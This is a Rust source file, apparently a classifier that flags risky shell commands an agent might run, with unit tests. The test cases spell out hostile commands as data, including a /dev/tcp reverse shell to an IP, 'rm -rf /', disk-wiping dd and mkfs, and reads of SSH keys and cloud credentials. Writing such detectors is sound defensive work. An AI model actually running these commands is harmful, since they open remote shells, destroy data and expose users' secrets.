fn terminal(n: &str, args: &[String], a: &mut Acc, depth: u8) {
    use Danger::*;
    generic(n, args, a);
    let (f, who) = (fam(n), q(n));
    let any = |p: &dyn Fn(&str) -> bool| args.iter().any(|x| p(x));
    let opt = |l: &[&str]| any(&|x| l.iter().any(|o| x == *o || x.strip_prefix(o).is_some_and(|r| r.starts_with('='))));
    macro_rules! hit { ($d:expr, $cond:expr, $why:expr) => { if $cond { a.flag($d, format!("{who} {}", $why)); } }; }
    if let Some(v) = first_pos(args, PM_VALS) {
        let is = |t: &[(&str, &[&str])]| t.iter().any(|(p, vs)| (*p == n || *p == f) && vs.contains(&v));
        let nv = q(&format!("{n} {v}"));
        if is(PKG) { a.flag(PackageInstall, format!("{nv} installs or fetches packages")); }
        if is(NET_VERBS) { a.flag(Network, format!("{nv} reaches the network")); }
    }
    hit!(Network, NET.contains(&n) || NET.contains(&f), "reaches the network");
    hit!(Admin, ADMIN.contains(&n), "needs or grants administrator rights");
    hit!(Opaque, OPAQUE_PROGS.contains(&n), "runs other commands or changes how the shell runs them");
    hit!(Opaque, INLINE.iter().any(|(p, l)| p.contains(&f) && opt(l)), "runs inline code or another program from its options");
    hit!(Opaque, INLINE_SHORT.iter().any(|(p, l)| *p == f && any(&|x| short_has(x, l))), "runs inline code from its options");
    hit!(Opaque, matches!(f, "vi" | "vim" | "nvim" | "view" | "ex") && any(&|x| x.starts_with('+')), "runs editor commands from its arguments");
    hit!(Opaque, matches!(f, "awk" | "gawk" | "mawk" | "nawk") && any(&|x| ["system", "|", ">", "getline"].iter().any(|p| x.contains(p))), "program can run commands or write files");
    hit!(Opaque, f == "sed" && sed_runs(args), "script can run commands (`e`) or write files (`w`)");
    hit!(Opaque, matches!(f, "ssh" | "scp" | "sftp") && any(&|x| x.to_ascii_lowercase().contains("command")), "option runs a local command");
    hit!(BootAutostart, matches!(n, "at" | "batch" | "update-rc.d" | "chkconfig" | "rc-update"), "schedules or registers commands to run later");
    hit!(BootAutostart, n == "crontab" && !has(args, &["-l"]), "schedules commands with cron");
    hit!(BootAutostart, n == "launchctl" && !matches!(args.first().map(String::as_str), Some("list" | "print" | "version" | "help")), "changes what launchd starts");
    hit!(RecursiveDelete, matches!(n, "shred" | "wipefs") || n.starts_with("mkfs"), "destroys data irrecoverably");
    hit!(Admin, n == "wipefs" || n.starts_with("mkfs"), "needs administrator rights");
    hit!(Admin, n == "chmod" && any(&setuid), "sets the setuid/setgid bit");
    hit!(Admin, matches!(n, "chown" | "chgrp") && first_pos(args, &[]).is_some_and(|o| o.split([':', '.']).any(|p| p == "root" || p == "0")), "gives files to root");
    hit!(OutsideCwd, n == "popd" || (matches!(n, "cd" | "pushd" | "chdir") && first_pos(args, &[]).is_none_or(|t| t == "-" || outside(t))), "leaves the working directory");
    hit!(PackageInstall, matches!(n, "npx" | "bunx" | "pnpx" | "uvx" | "emerge" | "cargo-binstall"), "fetches and runs or installs packages");
    hit!(PackageInstall, n == "dpkg" && any(&|x| short_has(x, "i") || x == "--install" || x == "--unpack"), "installs packages");
    hit!(PackageInstall, n == "rpm" && any(&|x| ["-i", "-U", "-F", "--install", "--upgrade", "--freshen", "--reinstall"].iter().any(|o| x.starts_with(o))), "installs packages");
    hit!(PackageInstall, matches!(n, "pacman" | "yay" | "paru") && ((n != "pacman" && args.is_empty()) || any(&|x| x.starts_with("-S") || x.starts_with("-U") || x == "--sync" || x == "--upgrade")), "installs packages");
    hit!(PackageInstall, n == "nix-env" && any(&|x| x.starts_with("-i") || x.starts_with("-u") || x == "--install" || x == "--upgrade"), "installs packages");
    hit!(PackageInstall, f == "yarn" && first_pos(args, PM_VALS).is_none() && !has(args, &["-v", "--version", "-h", "--help"]), "without a command installs packages");
    let words: Vec<&str> = args.iter().filter(|x| !x.starts_with('-')).take(2).map(String::as_str).collect();
    hit!(PackageInstall, n == "uv" && matches!(words.as_slice(), ["pip", "install" | "sync"] | ["tool", "install" | "run" | "upgrade"] | ["python", "install"] | ["add" | "sync", ..]), "installs packages");
    hit!(Network, f == "php" && any(&|x| short_has(x, "S")), "serves on the network");
    hit!(OutsideCwd, n == "tar" && any(&|x| x == "-P" || x == "--absolute-names"), "keeps absolute paths");
    hit!(Network, n == "rsync" && any(&|x| !x.starts_with('-') && (x.contains("::") || x.to_ascii_lowercase().starts_with("rsync://") || x.split_once(':').is_some_and(|(h, _)| !h.is_empty() && !h.contains('/')))), "to a remote host reaches the network");
    hit!(RecursiveDelete, n == "rsync" && any(&|x| x.starts_with("--delete") || x == "--remove-source-files"), "deletes files recursively");
    match n {
        "rm" => rm(args, a),
        "find" => find_cmd(args, a, depth),
        "git" => git(args, a),
        "systemctl" => systemctl(args, a),
        "eval" if depth < MAX_DEPTH => shell_into(&args.join(" "), a, depth + 1),
        "su" if any(&|x| x == "-c" || x.starts_with("--command")) => {
            a.flag(Opaque, "`su -c` runs inline shell code");
            let code = args.iter().position(|x| x == "-c").and_then(|k| args.get(k + 1));
            if let Some(code) = code.filter(|_| depth < MAX_DEPTH) { shell_into(code, a, depth + 1); }
        }
        _ if SHELLS.contains(&f) => shell(n, args, a, depth),
        _ if matches!(f, "python" | "pypy") => python(args, a, depth),
        _ => {}
    }
}

fn rm(args: &[String], a: &mut Acc) {
    let end = args.iter().position(|x| x == "--").unwrap_or(args.len());
    if args
        .iter()
        .take(end)
        .any(|x| x == "--recursive" || short_has(x, "rR"))
    {
        a.flag(
            Danger::RecursiveDelete,
            "`rm -r` deletes directories recursively",
        );
    }
    for (k, x) in args.iter().enumerate() {
        let tilde = x.starts_with('~');
        let comps = x.split('/').filter(|c| !c.is_empty() && *c != ".").count();
        let (comps, glob) = (
            comps.saturating_sub(usize::from(tilde)),
            x.contains(['*', '?', '[']),
        );
        let operand = k > end || !x.starts_with('-');
        if operand && (tilde || x.starts_with('/')) && (comps == 0 || (comps == 1 && glob)) {
            let why = format!("`rm` of {} deletes everything under the root or home", q(x));
            a.flag(Danger::RecursiveDelete, why);
        }
    }
}

fn find_cmd(args: &[String], a: &mut Acc, depth: u8) {
    let mut k = 0;
    while let Some(x) = args.get(k) {
        match x.as_str() {
            "-delete" => a.flag(
                Danger::RecursiveDelete,
                "`find -delete` deletes files recursively",
            ),
            "-fprint" | "-fprint0" | "-fprintf" | "-fls" => {
                a.flag(Danger::Opaque, format!("`find {x}` writes to a file"));
            }
            "-exec" | "-execdir" | "-ok" | "-okdir" => {
                a.flag(
                    Danger::Opaque,
                    format!("`find {x}` runs a command for every file"),
                );
                let rest = args.iter().skip(k + 1).position(|x| x == ";" || x == "+");
                let end = rest.map_or(args.len(), |p| k + 1 + p);
                if depth < MAX_DEPTH {
                    classify(args.get(k + 1..end).unwrap_or_default(), a, depth + 1);
                }
                k = end;
            }
            _ => {}
        }
        k += 1;
    }
}

#[rustfmt::skip]
fn systemctl(args: &[String], a: &mut Acc) {
    let vals = ["-H", "--host", "-M", "--machine", "-t", "--type", "-p", "--property", "-n", "--lines", "-o", "--output", "--state", "--root", "-s", "--signal"];
    let boot = ["enable", "reenable", "disable", "link", "preset", "preset-all", "set-default", "add-wants", "add-requires", "edit", "revert", "mask", "unmask"];
    let read = |v: &str| ["status", "show", "cat", "help", "list-", "is-", "get-default", "show-environment"].iter().any(|r| v == *r || (r.ends_with('-') && v.starts_with(r)));
    match first_pos(args, &vals) {
        None => {}
        Some(v) if read(v) => {}
        Some(v) if boot.contains(&v) => a.flag(Danger::BootAutostart, format!("{} changes what starts at boot or login", q(&format!("systemctl {v}")))),
        Some(_) if has(args, &["--user"]) => a.flag(Danger::Opaque, "`systemctl --user` controls user services"),
        Some(_) => a.flag(Danger::Admin, "`systemctl` controls system services"),
    }
}

fn shell(n: &str, args: &[String], a: &mut Acc, depth: u8) {
    let code_at = args
        .iter()
        .position(|x| short_has(x, "c") || x.starts_with("--command"));
    if let Some(k) = code_at {
        a.flag(
            Danger::Opaque,
            format!("{} runs inline shell code", q(&format!("{n} -c"))),
        );
        let attached = args.get(k).and_then(|x| x.strip_prefix("--command="));
        let code = attached.or(args.get(k + 1).map(String::as_str));
        if let Some(code) = code.filter(|_| depth < MAX_DEPTH) {
            shell_into(code, a, depth + 1);
        }
        return;
    }
    let script = first_pos(args, &["-o", "+o", "-O", "+O", "--rcfile", "--init-file"]);
    if script.is_none() || args.iter().any(|x| short_has(x, "si")) {
        let why = format!("{} reads commands from stdin or runs interactively", q(n));
        a.flag(Danger::Opaque, why);
    }
}

fn python(args: &[String], a: &mut Acc, depth: u8) {
    let mut k = 0;
    while let Some(x) = args.get(k) {
        if x == "-m" {
            let rest = args.get(k + 2..).unwrap_or_default();
            match args.get(k + 1).map(String::as_str) {
                Some("http.server" | "SimpleHTTPServer" | "smtpd" | "aiosmtpd") => {
                    a.flag(
                        Danger::Network,
                        "`python -m http.server` serves on the network",
                    );
                }
                Some(m @ ("pip" | "pipx" | "uv")) => terminal(m, rest, a, depth),
                _ => {}
            }
            return;
        }
        if x == "-" || short_has(x, "c") {
            a.flag(
                Danger::Opaque,
                "`python` runs inline code or code from stdin",
            );
            return;
        }
        if !x.starts_with('-') {
            return; // the script
        }
        k += if x == "-W" || x == "-X" { 2 } else { 1 };
    }
    a.flag(
        Danger::Opaque,
        "`python` without a script reads code from stdin",
    );
}

#[rustfmt::skip]
fn git(args: &[String], a: &mut Acc) {
    use Danger::*;
    let mut k = 0;
    while let Some(x) = args.get(k).filter(|x| x.starts_with('-')) {
        match x.as_str() { // global options; `-C`/`--git-dir`/`--work-tree` values are checked in `generic`
            "-C" | "--git-dir" | "--work-tree" | "--namespace" | "--super-prefix" | "--attr-source" => k += 1,
            "-p" | "-P" | "--paginate" | "--no-pager" | "--bare" | "--no-replace-objects" | "--literal-pathspecs" | "--glob-pathspecs"
            | "--noglob-pathspecs" | "--icase-pathspecs" | "--no-optional-locks" | "--no-lazy-fetch" | "--no-advice" | "--version"
            | "--help" | "-v" | "-h" => {}
            x if ["--git-dir=", "--work-tree=", "--namespace=", "-C"].iter().any(|p| x.starts_with(p)) => {}
            x => a.flag(Opaque, format!("{} can change git's configuration, pager or programs", q(&format!("git {x}")))),
        }
        k += 1;
    }
    let Some(sub) = args.get(k) else { return };
    let rest = args.get(k + 1..).unwrap_or_default();
    let gs = q(&format!("git {sub}"));
    let any = |p: &dyn Fn(&str) -> bool| rest.iter().any(|x| p(x));
    let exec = ["-c", "--config", "-u", "--upload-pack", "--receive-pack", "--exec", "--template", "foreach"];
    let (d, hit, why) = match sub.as_str() {
        "clone" | "fetch" | "pull" | "push" | "ls-remote" | "send-email" | "svn" | "request-pull" | "daemon" | "instaweb" | "lfs" | "p4" | "submodule" => {
            let runs = any(&|x| x.starts_with("ext::") || exec.iter().any(|o| x == *o || x.strip_prefix(o).is_some_and(|r| r.starts_with('='))));
            if runs { a.flag(Opaque, format!("{gs} can run another program")); }
            (Network, true, "reaches the network")
        }
        "remote" => (Network, has(rest, &["update", "prune", "show", "set-head", "-f", "--fetch"]), "reaches the network"),
        "archive" => (Network, any(&|x| x.starts_with("--remote") || x.starts_with("--exec")), "reaches the network"),
        "config" => (Opaque, !has(rest, &["--get", "--get-all", "--get-regexp", "--get-urlmatch", "--list", "-l", "get", "list"]), "can set aliases, hooks or a pager that run commands"),
        "clean" => (RecursiveDelete, any(&|x| x == "--force" || short_has(x, "f")) && !any(&|x| x == "--dry-run" || short_has(x, "n")), "deletes untracked files recursively"),
        "rm" => (RecursiveDelete, any(&|x| short_has(x, "r")), "deletes recursively"),
        "bisect" => (Opaque, rest.first().is_some_and(|x| x == "run"), "runs a command"),
        "rebase" => (Opaque, any(&|x| x == "-x" || x.starts_with("--exec")), "runs a command"),
        "filter-branch" | "filter-repo" | "difftool" | "mergetool" | "credential" | "hook" => (Opaque, true, "runs other programs"),
        _ => (Opaque, false, ""),
    };
    if hit { a.flag(d, format!("{gs} {why}")); }
    if matches!(sub.as_str(), "clone" | "init" | "worktree") {
        for x in rest.iter().filter(|x| outside(x)) { a.flag(OutsideCwd, format!("{gs} writes to {}, outside the working directory", q(x))); }
    }
}

fn setuid(m: &str) -> bool {
    if !m.is_empty() && m.chars().all(|c| c.is_ascii_digit()) {
        let d: Vec<u32> = m.chars().filter_map(|c| c.to_digit(8)).collect();
        return d.len() >= 4 && d.get(d.len() - 4).is_some_and(|x| x & 6 != 0);
    }
    m.contains(['+', '='])
        && m.chars().all(|c| "ugoarwxXst+-=,".contains(c))
        && m.split(',')
            .any(|cl| cl.split(['+', '=']).skip(1).any(|p| p.contains('s')))
}

/// Does a sed script use `e` (run a command) or `w` (write a file), as a command or an `s` flag?
fn sed_runs(args: &[String]) -> bool {
    let mut scripts: Vec<&str> = Vec::new();
    for (k, x) in args.iter().enumerate() {
        if x == "-e" || x == "--expression" {
            scripts.extend(args.get(k + 1).map(String::as_str));
        }
        scripts.extend(x.strip_prefix("--expression="));
    }
    if scripts.is_empty() {
        scripts.extend(first_pos(args, &["-f", "--file", "-l", "--line-length"]));
    }
    scripts
        .iter()
        .flat_map(|s| s.split([';', '\n']))
        .any(|mut c| {
            loop {
                c = c
                    .trim_start_matches(|ch: char| ch.is_ascii_digit() || " \t,$!~+{".contains(ch));
                match c.strip_prefix('/').and_then(|r| r.split_once('/')) {
                    Some((_, rest)) => c = rest, // skip a `/regex/` address
                    None => break,
                }
            }
            let mut it = c.chars();
            match it.next() {
                Some('e' | 'w' | 'W') => true,
                Some('s') => it.next().is_some_and(|d| {
                    let parts: Vec<&str> = c.split(d).collect(); // s/re/new/flags
                    parts.len() >= 4 && parts.last().is_some_and(|f| f.contains(['e', 'w']))
                }),
                _ => false,
            }
        })
}

#[cfg(test)]
#[rustfmt::skip]
mod tests {
    use super::Danger::*;
    use super::*;

    fn argv(v: &[&str]) -> Vec<String> { v.iter().map(|s| s.to_string()).collect() }

    #[test]
    fn dangerous_commands_are_flagged() {
        let cases: &[(&str, &[Danger])] = &[
            // SECURITY.md E2/E3 and the brief's list
            ("git status; curl x", &[Opaque, Network]), ("git log\ncurl x", &[Opaque, Network]), ("echo $(curl x)", &[Opaque, Network]),
            ("`id`", &[Opaque]), ("ls && rm -rf ~", &[Opaque, RecursiveDelete, OutsideCwd]), ("ls > ~/.bashrc", &[Opaque, BootAutostart, OutsideCwd]),
            ("env X=1 curl x", &[Opaque, Network]), ("$'\\x3b'", &[Opaque]), ("bash -c 'ls'", &[Opaque]), ("find . -exec rm {} \\;", &[Opaque]),
            ("xargs rm", &[Opaque]), ("git -c core.pager=sh log", &[Opaque]), ("cd /tmp && touch x", &[Opaque, OutsideCwd]),
            ("git -C /other commit", &[OutsideCwd]), ("tar -C / -xf a.tar", &[OutsideCwd]), ("sudo ls", &[Admin]),
            ("pip install requests", &[PackageInstall]), ("npm i -g x", &[PackageInstall]), ("cargo install ripgrep", &[PackageInstall]),
            ("rm -rf build", &[RecursiveDelete]), ("rm -r -f x", &[RecursiveDelete]), ("wget http://x", &[Network]), ("ssh host", &[Network]),
            ("crontab -e", &[BootAutostart]), ("systemctl enable foo", &[BootAutostart]), ("echo x >> ~/.profile", &[Opaque, BootAutostart, OutsideCwd]),
            ("cp a /etc/rc.local", &[OutsideCwd, BootAutostart]), ("touch ../outside", &[OutsideCwd]), ("curl\u{202e}x", &[Opaque]), ("echo 'x", &[Opaque]),
            // shell syntax
            ("echo \"x", &[Opaque]), ("X=1 ls", &[Opaque]), ("GIT_PAGER=sh git log", &[Opaque]), ("$CMD x", &[Opaque]), ("/usr/bin/cur? x", &[Opaque]),
            ("echo ${PATH}", &[Opaque]), ("ls &>/dev/null", &[Opaque]), ("cat <<EOF", &[Opaque]), ("diff <(ls) x", &[Opaque]), ("echo x > out.txt", &[Opaque]),
            ("ls 2>&1 | tee /tmp/x", &[Opaque, OutsideCwd]), ("a=$(curl x)", &[Opaque, Network]), ("eval 'curl x'", &[Opaque, Network]),
            ("bash -lc 'curl x'", &[Opaque, Network]), ("bash -o pipefail -c 'curl x'", &[Opaque, Network]), ("sh", &[Opaque]), ("env", &[Opaque]),
            ("echo $'\\x1b'", &[Opaque]), ("ls\necho hi", &[Opaque]),
            // program names and wrappers
            ("/usr/bin/curl x", &[Network]), ("'cu''rl' x", &[Network]), ("\\curl x", &[Network]), ("c\\url x", &[Network]), ("CURL.exe x", &[Network]),
            ("timeout 5 curl x", &[Network]), ("nice -n 5 nohup time wget x", &[Network]), ("command curl x", &[Network]), ("exec wget x", &[Opaque, Network]),
            ("busybox wget x", &[Network]), ("sudo -u root rm -rf /", &[Admin, RecursiveDelete, OutsideCwd]), ("su -c 'id'", &[Admin, Opaque]),
            // per-program rules
            ("find . -exec rm -rf {} +", &[Opaque, RecursiveDelete]), ("find . -delete", &[RecursiveDelete]), ("rm /*", &[RecursiveDelete, OutsideCwd]),
            ("git clean -fdx", &[RecursiveDelete]), ("git push origin main", &[Network]), ("git clone https://x/y", &[Network]),
            ("git config alias.x '!sh'", &[Opaque]), ("git ls-remote --upload-pack='touch x' .", &[Network, Opaque]), ("git --exec-path=/x status", &[Opaque]),
            ("python3 -m http.server", &[Network]), ("python3 -c 'print(1)'", &[Opaque]), ("python3 -W ignore -c 'x'", &[Opaque]),
            ("python3 -m pip install x", &[PackageInstall]), ("python3 fetch.py https://evil.example", &[Network]), ("node -e 'x'", &[Opaque]),
            ("perl -pie 's/a/b/' f", &[Opaque]), ("sed 's/x/y/e' f", &[Opaque]), ("sed -n '1w out' f", &[Opaque]), ("sed -i s/a/b/ /etc/hosts", &[OutsideCwd]),
            ("awk '{system(\"id\")}' f", &[Opaque]), ("rg --pre ./x foo", &[Opaque]), ("tar xf a.tar --to-command=sh", &[Opaque]), ("vim -c '!id' f", &[Opaque]),
            ("npx cowsay", &[PackageInstall]), ("yarn", &[PackageInstall]), ("apt-get install -y x", &[PackageInstall]), ("uv pip install x", &[PackageInstall]),
            ("chmod u+s x", &[Admin]), ("chmod 4755 x", &[Admin]), ("chown root:root x", &[Admin]), ("mkfs.ext4 /dev/sdb", &[RecursiveDelete, Admin]),
            ("dd if=/dev/zero of=/dev/sda", &[OutsideCwd]), ("dd of=~/.bashrc", &[OutsideCwd, BootAutostart]), ("touch $HOME/x", &[OutsideCwd]),
            ("touch a/../../x", &[OutsideCwd]), ("cp -t/etc x", &[OutsideCwd]), ("cp --target-directory=~ x", &[OutsideCwd]), ("ln -s /etc/passwd l", &[OutsideCwd]),
            ("make -C /x", &[OutsideCwd]), ("make -C/x", &[OutsideCwd]), ("cd", &[OutsideCwd]), ("cp x .config/autostart/", &[BootAutostart]),
            ("mkdir -p ~/.config/systemd/user", &[BootAutostart, OutsideCwd]), ("cp x .bash*", &[BootAutostart]), ("truncate -s 0 ~/.zshrc", &[BootAutostart]),
            ("cp hook .git/hooks/pre-commit", &[Opaque]), ("rsync -a x host:y", &[Network]), ("rsync -a --delete a/ b/", &[RecursiveDelete]),
            ("rsync -e 'sh -c x' a b", &[Opaque]), ("docker run x", &[Opaque]), ("ssh -o ProxyCommand=x h", &[Network, Opaque]), ("at now", &[BootAutostart, Opaque]),
            ("cat < /dev/tcp/evil/80", &[Network]), ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", &[Network, Opaque]), ("busybox httpd", &[Network]),
        ];
        for (cmd, want) in cases {
            let r = analyze_shell(cmd);
            for d in *want { assert!(r.dangers.contains(d), "{cmd:?}: expected {d:?}, got {r:?}"); }
            assert!(r.never_loosens() && !r.reasons.is_empty(), "{cmd:?}");
        }
    }

    #[test]
    fn safe_commands_are_clean() {
        let clean = [
            "ls -la", "git status", "cargo test", "cat src/main.rs", "grep -rn foo .", "echo hello", "python3 script.py", "npm test",
            "git log --oneline", "", "   ", "cargo build --release 2>&1", "ls >/dev/null 2>&1", "git diff HEAD~1", "rm file.txt", "cat ~/.bashrc",
            "command -v curl", "echo curl", "mkdir -p src/new", "cp a b", "cp -r src/* dst/", "git commit -m 'see https://x.org'", "ls # c; curl x",
            "rg -n 'fn main' src", "cargo clippy -- -D warnings", "echo '$(not expanded)'", "touch a/../b", "sed -n 1,5p web.txt", "sed -i s/a/b/ f",
            "git log --format='%H %s'", "ls -d /etc", "cat /etc/hosts", "bash script.sh", "systemctl status foo", "crontab -l", "npm run build",
            "echo a=b", "grep -C 3 x f", "pytest -q tests/", "ls ./*.rs", "wc -l < src/main.rs", "awk '{print $1}' f", "git add -A", "rmdir -p a/b", "[ -f x ]",
            "echo hi >&2", "c\"\"at x", "git config --get user.name", "ls -la > /dev/null",
        ];
        for cmd in clean {
            let r = analyze_shell(cmd);
            assert!(!r.never_loosens() && r.reasons.is_empty() && !r.has_control_chars, "{cmd:?} should be clean: {r:?}");
        }
    }

    #[test]
    fn argv_cases() {
        let cases: &[(&[&str], &[Danger])] = &[
            (&["bash", "-c", "ls"], &[Opaque]), (&["/bin/sh", "-c", "curl x"], &[Opaque, Network]), (&["curl", "x"], &[Network]),
            (&["env", "X=1", "ls"], &[Opaque]), (&["git", "-C", "/x", "status"], &[OutsideCwd]), (&["git", "-c", "core.pager=sh", "log"], &[Opaque]),
            (&["sudo", "curl", "x"], &[Admin, Network]), (&["ls", "\u{1b}[2J"], &[Opaque]), (&["touch", "../x"], &[OutsideCwd]), (&["rm", "-rf", "x"], &[RecursiveDelete]),
        ];
        for (v, want) in cases {
            let r = analyze_argv(&argv(v));
            for d in *want { assert!(r.dangers.contains(d), "{v:?}: expected {d:?}, got {r:?}"); }
        }
        for v in [&["ls", "; curl x"][..], &["echo", "$(curl x)"], &["git", "status"], &["cargo", "test"], &["ls", "*"], &[]] {
            assert!(!analyze_argv(&argv(v)).never_loosens(), "{v:?}");
        }
        assert!(analyze_argv(&argv(&["ls", "\u{1b}[2J"])).has_control_chars);
    }

    #[test]
    fn sensitive_mentions() {
        for cmd in ["cat ~/.ssh/id_rsa", "cat server.pem", "ls $HOME/.aws/credentials", "cat ~/.SSH/ID_RSA", "cp x ~/.tradewind/db", "cat a.key",
                    "cat ~/.netrc", "python -c \"open('/home/u/.ssh/id_rsa')\"", "cat ~/.gnupg/x", "openssl pkcs12 -in c.p12"] {
            assert!(!analyze_shell(cmd).sensitive_mentions.is_empty(), "{cmd:?}");
        }
        assert!(analyze_shell("cat ~/.ssh/id_rsa").dangers.is_empty());
        assert_eq!(analyze_argv(&argv(&["cat", "/home/u/.gnupg/x"])).sensitive_mentions, ["/home/u/.gnupg/x"]);
        assert!(analyze_shell("cat src/main.rs").sensitive_mentions.is_empty());
    }

    #[test]
    fn visible_rendering() {
        assert_eq!(visible("a\x1bb"), "a␛b");
        assert_eq!(visible("a\nb"), "a⏎b");
        assert_eq!(visible("x\u{202e}y"), "x<U+202E>y");
        assert_eq!(visible("\u{0}\u{7f}\r"), "␀␡␍");
        assert_eq!(visible("z\u{200b}\u{85}\u{a0}"), "z<U+200B><U+0085><U+00A0>");
        assert_eq!(visible("plain ascii\ttab é ✓"), "plain ascii\ttab é ✓");
        let r = analyze_shell("echo \u{1b}[31mred");
        assert!(r.has_control_chars && r.dangers.contains(&Opaque));
        assert!(r.reasons.iter().all(|x| !x.chars().any(is_invisible)));
    }

    #[test]
    fn garbage_never_panics() {
        let all: String = (0u32..=255).filter_map(char::from_u32).collect();
        let mut inputs = vec![all.clone(), "a".repeat(100_000), "$(".repeat(50_000), "(".repeat(100_000), "'".repeat(100_001), "`".repeat(100_001),
            "\\".repeat(100_001), "rm -rf /* ".repeat(10_000), "a;".repeat(50_000), "*".repeat(100_000), "${".repeat(50_000),
            "$(".repeat(20_000) + &")".repeat(20_000), "cp x ".to_string() + &".*?[".repeat(25_000), "bash -c ".repeat(20_000),
            "> ".repeat(50_000), "sed ".to_string() + &"s".repeat(100_000), "x=".repeat(50_000), "command ".repeat(12_000), "eval ".repeat(20_000),
            "find . -exec ".repeat(8_000), "sudo ".repeat(20_000), "\u{202e}".repeat(100_000)];
        for c in all.chars() { inputs.push(c.to_string()); inputs.push(format!("rm -{c} x{c}y")); }
        let mut seed = 0x9E37_79B9_7F4A_7C15u64;
        let alphabet: Vec<char> = "ab -/~.*?[]{}()$'\"`\\;&|<>=#\n\t\u{202e}\u{0}01cerm".chars().collect();
        for _ in 0..3000 {
            let len = (seed % 40) as usize;
            let s: String = (0..len).map(|_| { seed ^= seed << 13; seed ^= seed >> 7; seed ^= seed << 17; alphabet[(seed % alphabet.len() as u64) as usize] }).collect();
            inputs.push(s);
        }
        for s in &inputs {
            let r = analyze_shell(s);
            assert!(r.dangers.windows(2).all(|w| w[0] < w[1]));
            assert!(!r.has_control_chars || r.dangers.contains(&Opaque));
            assert!(r.dangers.is_empty() || !r.reasons.is_empty());
            assert!(r.reasons.len() <= MAX_REASONS + 7 && r.sensitive_mentions.len() <= MAX_MENTIONS);
            let _ = analyze_argv(&s.split(' ').map(str::to_string).collect::<Vec<_>>());
            let _ = visible(s);
        }
    }
}
